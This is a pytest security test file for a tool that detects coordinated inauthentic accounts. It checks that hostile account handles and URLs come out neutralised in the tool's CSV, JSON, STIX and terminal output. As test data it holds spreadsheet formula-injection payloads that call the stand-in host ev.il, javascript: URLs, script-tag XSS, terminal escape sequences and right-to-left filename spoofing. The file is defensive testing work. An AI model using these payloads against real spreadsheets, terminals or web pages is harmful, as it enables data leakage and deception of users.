"""Hostile exports end to end: attacker-chosen handles and post URLs travel through load → score → export and
reach terminals, spreadsheets, JSON and STIX readers inert.

The hostile export is generated here (a scenario whose Facebook campaign pages get hostile handles and post URLs);
every command runs in a child process under resource limits (address space, CPU seconds) set with
``resource.setrlimit``, so a hang or blow-up fails the test rather than the machine.
"""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import pytest

CIB = [sys.executable, "-m", "cib"]
RLO = "\u202e"
HOSTILE_HANDLES = [
    f"{RLO}gpj.exe",
    '=HYPERLINK("https://ev.il/?x="&A1,"click")',
    "[link=https://ev.il]click me[/link][/]",
    "\x1b]8;;https://ev.il\x07link\x1b]8;;\x07\x1b[31mred",
    'a"b<script>alert(1)</script> c\nd',
    "@SUM(1+1)\t",
]
HOSTILE_URLS = ["javascript:alert(document.domain)", 'https://ev.il/p?a=<b>"c d\n#x', "data:text/html,<b>x</b>",
                "//no-scheme.example/x", "HTTPS://Ok.Example/path with space"]
URL_CHARS = re.compile(r"^(https?|tg)://[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]+$")
UNSAFE_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
    resource.setrlimit(resource.RLIMIT_CPU, (120, 120))


def _cib(*args: str) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([*CIB, *args], preexec_fn=_limits, capture_output=True, text=True, timeout=600)
    assert "Traceback" not in result.stderr, result.stderr
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A scenario whose coordinated Facebook pages carry hostile handles and post URLs; loaded, scored, exported."""
    from cib.scenario import generate

    root = tmp_path_factory.mktemp("hostile")
    scenario = generate(root / "scenario", seed=11, accounts=120, days=4, posts_per_account=6)
    pages = {uid.split(":", 1)[1] for uid in scenario.truth["multilingual_pages"]}
    path = root / "scenario" / "facebook" / "crowdtangle.csv"
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    handles: dict[str, str] = {}
    for i, row in enumerate(rows):
        if row["Facebook Id"] in pages:
            handles.setdefault(row["Facebook Id"], HOSTILE_HANDLES[len(handles) % len(HOSTILE_HANDLES)]
                               + ("" if len(handles) < len(HOSTILE_HANDLES) else f"{len(handles)}"))
            row["User Name"] = handles[row["Facebook Id"]]
            row["Page Name"] = handles[row["Facebook Id"]]
            row["URL"] = HOSTILE_URLS[i % len(HOSTILE_URLS)]
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    bots = {uid.split(":", 1)[1] for uid in scenario.truth["bot_farm"]}
    tweets = root / "scenario" / "x" / "tweets.jsonl"
    pages_out = []
    for line in tweets.read_text("utf-8").splitlines():
        page = json.loads(line)
        for user in page.get("includes", {}).get("users", []):
            if user["id"] in bots:
                handles.setdefault(user["id"], HOSTILE_HANDLES[len(handles) % len(HOSTILE_HANDLES)] + f"{len(handles)}")
                user["username"] = handles[user["id"]]
        pages_out.append(json.dumps(page, ensure_ascii=False))
    tweets.write_text("\n".join(pages_out) + "\n", "utf-8")
    ws, out = root / "ws", root / "out"
    results = {"load": _cib("load", str(root / "scenario"), "-w", str(ws), "--silent"),
               "score": _cib("score", "-w", str(ws), "--silent", "--top", "1000", "--threshold", "0.3"),
               "csv": _cib("export", "takedown", "-w", str(ws), "-o", str(out / "t.csv"), "--stix"),
               "json": _cib("export", "takedown", "-w", str(ws), "--format", "json", "-o", str(out / "t.json"))}
    for name, result in results.items():
        assert result.returncode == 0, (name, result.stderr)
    (root / "terminal.txt").write_text("".join(r.stdout + r.stderr for r in results.values()), "utf-8")
    (root / "handles.json").write_text(json.dumps(sorted(handles.values())), "utf-8")
    return {"root": root, "out": out}


def _hostile_handles(hostile: dict[str, Path]) -> list[str]:
    return json.loads((hostile["root"] / "handles.json").read_text("utf-8"))


def test_the_hostile_accounts_are_exported(hostile: dict[str, Path]) -> None:
    data = json.loads((hostile["out"] / "t.json").read_text("utf-8"))
    exported = {row["handle"] for row in data}
    assert len(exported & set(_hostile_handles(hostile))) >= 10  # JSON keeps the exact original text
    assert "x" in {r["platform"] for r in data if r["handle"] in set(_hostile_handles(hostile))}


def test_csv_cells_are_inert(hostile: dict[str, Path]) -> None:
    for path in hostile["out"].glob("t*.csv"):
        text = path.read_text("utf-8")
        assert not UNSAFE_RAW.search(text), path
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not (cell.startswith("-") and not re.fullmatch(r"-?[0-9.]+", cell)), cell
    text = (hostile["out"] / "t.csv").read_text("utf-8")
    assert "\\u202egpj.exe" in text and "'=HYPERLINK" in text  # kept, visibly escaped / neutralised


def test_only_encoded_http_evidence_urls(hostile: dict[str, Path]) -> None:
    data = json.loads((hostile["out"] / "t.json").read_text("utf-8"))
    hostile_rows = [r for r in data if r["handle"] in set(_hostile_handles(hostile))]
    assert hostile_rows
    for row in data:
        for url in row["evidence_urls"].split():
            assert URL_CHARS.match(url) and url.startswith(("http://", "https://")), url
        assert row["profile_url"] == "" or URL_CHARS.match(row["profile_url"]), row["profile_url"]
    everything = "".join(p.read_text("utf-8") for p in hostile["out"].iterdir())
    assert "javascript:" not in everything and "data:text" not in everything
    assert "%3Cscript%3E" in everything  # a hostile handle inside X post and profile URLs, encoded


def test_non_http_post_urls_never_become_evidence(tmp_path: Path) -> None:
    """Post URLs straight from an export (CrowdTangle's URL column) of flagged accounts: only http(s) survives."""
    code = f"""
import json, polars as pl
from pathlib import Path
from reports import takedown_rows
from reports.export import write_takedown
urls = {HOSTILE_URLS!r}
n = len(urls)
clusters = pl.DataFrame({{"cluster_id": ["c-1"], "rank": [1], "score": [0.9], "flagged": [True],
                          "signals": [["co_url"]], "explanation": ["x"]}})
members = pl.DataFrame({{"cluster_id": ["c-1"], "account_uid": ["facebook:1"]}})
accounts = pl.DataFrame({{"uid": ["facebook:1"], "platform": ["facebook"], "account_id": ["1"],
                          "handle": ["\u202egpj.exe"], "profile_url": ['https://www.facebook.com/a"<b>']}})
evidence = pl.DataFrame({{"src": ["facebook:1"] * n, "dst": ["facebook:2"] * n,
                          "post_a": [f"facebook:p{{i}}" for i in range(n)], "post_b": ["facebook:q"] * n,
                          "idf": [1.0] * n, "gap_s": [1.0] * n}})
posts = pl.DataFrame({{"uid": [f"facebook:p{{i}}" for i in range(n)], "account_uid": ["facebook:1"] * n,
                       "created_at": [None] * n, "post_url": urls}},
                     schema_overrides={{"created_at": pl.Datetime("us", "UTC")}})
rows = takedown_rows(clusters, members, accounts, evidence, posts)
write_takedown(rows, Path({str(tmp_path / "t.csv")!r}), "csv", manifest={{}}, clusters=clusters, stix=True)
print(json.dumps(rows.to_dicts()[0]))
"""
    result = subprocess.run([sys.executable, "-c", code], preexec_fn=_limits, capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    row = json.loads(result.stdout)
    assert sorted(row["evidence_urls"].split()) == ["https://Ok.Example/path%20with%20space",
                                                    "https://ev.il/p?a=%3Cb%3E%22c%20d#x"]  # newline stripped
    assert row["profile_url"] == "https://www.facebook.com/a%22%3Cb%3E"
    assert len(row["evidence_post_ids"].split()) == len(HOSTILE_URLS)  # the posts stay listed, by id
    import stix2

    bundle = stix2.parse((tmp_path / "t.stix.json").read_text("utf-8"), allow_custom=False)
    refs = [r.url for o in bundle.objects if o.type == "identity" for r in o.external_references if "url" in r]
    assert sorted(refs) == sorted([row["profile_url"], *row["evidence_urls"].split()])
    assert "javascript" not in (tmp_path / "t.csv").read_text("utf-8")


def test_stix_bundle_validates_and_keeps_the_data(hostile: dict[str, Path]) -> None:
    import stix2

    text = (hostile["out"] / "t.stix.json").read_text("utf-8")
    assert not UNSAFE_RAW.search(text) and "\\u202e" in text
    bundle = stix2.parse(text, allow_custom=False)
    names = {o.name for o in bundle.objects if o.type == "identity"}
    assert names & set(_hostile_handles(hostile))
    urls = [ref.url for o in bundle.objects if o.type == "identity" for ref in o.external_references if "url" in ref]
    assert urls and all(URL_CHARS.match(u) for u in urls)
    assert any(ref.source_name == "cib-evidence" for o in bundle.objects if o.type == "identity"
               for ref in o.external_references)


def test_terminal_output_is_escaped(hostile: dict[str, Path]) -> None:
    text = (hostile["root"] / "terminal.txt").read_text("utf-8")
    assert "\x1b" not in text and RLO not in text


def test_load_names_a_hostile_file_without_obeying_it(tmp_path: Path) -> None:
    name = "\x1b[31mevil\x1b]8;;https:ev.il\x07" + RLO + "txt.json"  # no "/" in a file name
    junk = tmp_path / name
    junk.write_text("not an export")
    result = _cib("load", str(junk), "-w", str(tmp_path / "ws"))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and RLO not in result.stderr
    assert "\\x1b[31mevil\\x1b]8;;https:ev.il\\x07\\u202etxt.json: not a recognised export" in result.stderr
    summary = _cib("load", str(junk), "-w", str(tmp_path / "ws"), "--json")
    assert RLO not in summary.stdout


def test_score_table_prints_markup_and_controls_literally(tmp_path: Path) -> None:
    code = (
        "import polars as pl\n"
        "from cib.cli import _print_clusters\n"
        "_print_clusters(pl.DataFrame({'rank': [1], 'cluster_id': ['[link=https://ev.il]c[/link]'],\n"
        "    'score': [0.9], 'flagged': [True], 'size': [3], 'platforms': [['x\\x1b[31m', '[/]']],\n"
        "    'signals': [['co\\u202eurl']]}), 5)\n"
    )
    result = subprocess.run([sys.executable, "-c", code], preexec_fn=_limits, capture_output=True, text=True,
                            timeout=120, env={**os.environ, "COLUMNS": "200"})
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "[link=https://ev.il]c[/link]" in out  # shown, not turned into a clickable link
    assert "\x1b" not in out and RLO not in out and "\\x1b[31m" in out and "[/]" in out and "\\u202e" in out
